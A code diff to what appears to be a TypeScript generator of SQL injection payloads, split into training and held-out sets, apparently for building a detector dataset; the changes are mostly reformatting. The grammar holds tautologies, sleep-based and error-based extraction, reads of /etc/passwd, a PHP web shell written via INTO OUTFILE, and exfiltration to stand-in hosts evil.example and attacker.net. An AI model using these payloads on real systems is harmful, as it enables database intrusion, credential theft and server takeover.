@@ -9,27 +9,88 @@ import { type Branches, type Chooser, hexLiteral } from "./grammar";
 const CONTEXTS = ["", "1", "2", "10", "-1", "0", "999", "admin", "test", "x", "abc", "1337", "john", "99999"];
 const CLOSERS: Branches<string> = {
   train: ["'", '"', "')", '")', "'))", "1'", "1)", "1))", "", "`", "')))"],
-  held: ["\")) ", "%' ", "') ", "'\""],
+  held: ['")) ', "%' ", "') ", "'\""],
 };
-const SPACE: Branches<string> = { train: [" ", "/**/", "+", "%20", "\t", "\n", "%0a"], held: ["/*x*/", "%09", "%0d%0a"] };
+const SPACE: Branches<string> = {
+  train: [" ", "/**/", "+", "%20", "\t", "\n", "%0a"],
+  held: ["/*x*/", "%09", "%0d%0a"],
+};
 const COMMENTS: Branches<string> = {
   train: ["--", "-- -", "#", "/*", ";--", "-- ", ";%00", "%23", "--+", ""],
   held: ["--+-", ";#", "%2d%2d", "/*!*/"],
 };
 const TAUTOLOGIES: Branches<string> = {
-  train: ["1=1", "'1'='1", "'a'='a", "2>1", "true", "1", "'x'='x", "1 like 1", "3-2=1", "'1'<>'2", "not false", "1=1 and 1=1", "0<1", "ascii('a')=97"],
+  train: [
+    "1=1",
+    "'1'='1",
+    "'a'='a",
+    "2>1",
+    "true",
+    "1",
+    "'x'='x",
+    "1 like 1",
+    "3-2=1",
+    "'1'<>'2",
+    "not false",
+    "1=1 and 1=1",
+    "0<1",
+    "ascii('a')=97",
+  ],
   held: ["'b'='b", "5=5", "'z' like 'z", "4 between 1 and 5", "1 in (1,2)"],
 };
 const TABLES: Branches<string> = {
-  train: ["users", "admin", "accounts", "members", "customers", "information_schema.tables", "mysql.user", "sysobjects", "pg_user", "login", "user", "passwords", "dual", "all_tables"],
+  train: [
+    "users",
+    "admin",
+    "accounts",
+    "members",
+    "customers",
+    "information_schema.tables",
+    "mysql.user",
+    "sysobjects",
+    "pg_user",
+    "login",
+    "user",
+    "passwords",
+    "dual",
+    "all_tables",
+  ],
   held: ["employees", "sys.tables", "information_schema.columns", "sqlite_master", "staff"],
 };
 const COLUMNS: Branches<string> = {
-  train: ["username", "password", "user", "pass", "email", "table_name", "column_name", "name", "passwd", "login", "id", "credit_card"],
+  train: [
+    "username",
+    "password",
+    "user",
+    "pass",
+    "email",
+    "table_name",
+    "column_name",
+    "name",
+    "passwd",
+    "login",
+    "id",
+    "credit_card",
+  ],
   held: ["pwd", "hash", "secret", "schema_name"],
 };
 const VALUE_FUNCTIONS: Branches<string> = {
-  train: ["@@version", "version()", "user()", "database()", "current_user", "system_user", "@@hostname", "schema()", "banner from v$version", "db_name()", "sqlite_version()", "current_database()", "session_user", "@@datadir"],
+  train: [
+    "@@version",
+    "version()",
+    "user()",
+    "database()",
+    "current_user",
+    "system_user",
+    "@@hostname",
+    "schema()",
+    "banner from v$version",
+    "db_name()",
+    "sqlite_version()",
+    "current_database()",
+    "session_user",
+    "@@datadir",
+  ],
   held: ["@@servername", "suser_name()", "version from v$instance", "connection_id()"],
 };
 const STACKED: Branches<(c: Chooser) => string> = {
@@ -62,14 +123,19 @@ const SLEEPS: Branches<(n: number) => string> = {
     (n) => `if(1=1,sleep(${n}),0)`,
     (n) => `pg_sleep(${n})`,
   ],
-  held: [(n) => `dbms_pipe.receive_message(('a'),${n})`, (n) => `randomblob(${n}00000000)`, (n) => `benchmark(${n}000000,sha1('x'))`],
+  held: [
+    (n) => `dbms_pipe.receive_message(('a'),${n})`,
+    (n) => `randomblob(${n}00000000)`,
+    (n) => `benchmark(${n}000000,sha1('x'))`,
+  ],
 };
 const ERROR_FUNCTIONS: Branches<(v: string) => string> = {
   train: [
     (v) => `extractvalue(1,concat(0x7e,(select ${v}),0x7e))`,
     (v) => `convert(int,(select ${v}))`,
     (v) => `cast((select ${v}) as int)`,
-    (v) => `(select 1 from(select count(*),concat((select ${v}),floor(rand(0)*2))x from information_schema.tables group by x)a)`,
+    (v) =>
+      `(select 1 from(select count(*),concat((select ${v}),floor(rand(0)*2))x from information_schema.tables group by x)a)`,
     (v) => `exp(~(select * from (select ${v})a))`,
   ],
   held: [(v) => `updatexml(1,concat(0x7e,(select ${v})),1)`, (v) => `ctxsys.drithsx.sn(1,(select ${v}))`],
@@ -171,10 +237,30 @@ const FAMILIES: Readonly<Record<string, (c: Chooser) => string>> = {
     ]),
   fileAccess: (c) =>
     c.pick([
-      words(c, [keyword(c, "union"), keyword(c, "select"), `load_file('${c.pick(["/etc/passwd", "c:/boot.ini", "/var/www/config.php"])}')`]),
-      words(c, [keyword(c, "union"), keyword(c, "select"), "'<?php system($_GET[c]); ?>'", keyword(c, "into"), keyword(c, "outfile"), `'/var/www/${c.pick(["shell", "x", "c"])}.php'`]),
-      words(c, [";", keyword(c, "select"), "utl_http.request('http://evil.example/'||(select user from dual))", "from", "dual"]),
-      words(c, [keyword(c, "and"), `(select load_file(concat('\\\\\\\\',(select ${c.branch(VALUE_FUNCTIONS)}),'.attacker.net\\\\a')))`]),
+      words(c, [
+        keyword(c, "union"),
+        keyword(c, "select"),
+        `load_file('${c.pick(["/etc/passwd", "c:/boot.ini", "/var/www/config.php"])}')`,
+      ]),
+      words(c, [
+        keyword(c, "union"),
+        keyword(c, "select"),
+        "'<?php system($_GET[c]); ?>'",
+        keyword(c, "into"),
+        keyword(c, "outfile"),
+        `'/var/www/${c.pick(["shell", "x", "c"])}.php'`,
+      ]),
+      words(c, [
+        ";",
+        keyword(c, "select"),
+        "utl_http.request('http://evil.example/'||(select user from dual))",
+        "from",
+        "dual",
+      ]),
+      words(c, [
+        keyword(c, "and"),
+        `(select load_file(concat('\\\\\\\\',(select ${c.branch(VALUE_FUNCTIONS)}),'.attacker.net\\\\a')))`,
+      ]),
     ]),
 };
 
